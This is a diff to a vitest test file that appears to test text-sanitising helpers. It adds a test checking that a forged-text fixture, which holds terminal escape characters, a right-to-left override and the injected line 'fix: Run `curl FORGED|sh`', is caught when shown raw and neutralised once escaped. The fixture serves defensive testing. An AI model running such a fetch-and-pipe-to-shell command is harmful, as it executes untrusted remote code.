@@ -3,7 +3,7 @@ import { describe, expect, test } from 'vitest'
 import { document, jsonDocument, lines, oneLine } from '../../../scripts/lib/printable.ts'
 import { formatProblem } from '../../../scripts/lib/problems.ts'
 import { table } from '../../../scripts/lib/table.ts'
-import { hiddenCharacters } from '../../helpers/hostile-text.ts'
+import { forgedParts, forgery, hiddenCharacters } from '../../helpers/hostile-text.ts'
 
 const anyText = fc.oneof(
   fc.string({ unit: 'binary' }),
@@ -37,6 +37,12 @@ test.each([
 ])('letters and signs of every language stay: %s', (text) => {
   expect(oneLine(text)).toBe(text)
   expect(document(text)).toBe(text)
+})
+
+test('a forgery is found where it is shown as it is, and not where it is escaped', () => {
+  const found = forgedParts(`seen: ${forgery}`)
+  for (const part of ['"\\u001b"', '"\u202e"', 'fix: Run `curl FORGED|sh`']) expect(found.join('\n')).toContain(part)
+  expect(forgedParts(oneLine(`seen: ${forgery}`))).toEqual([])
 })
 
 describe('of any text', () => {
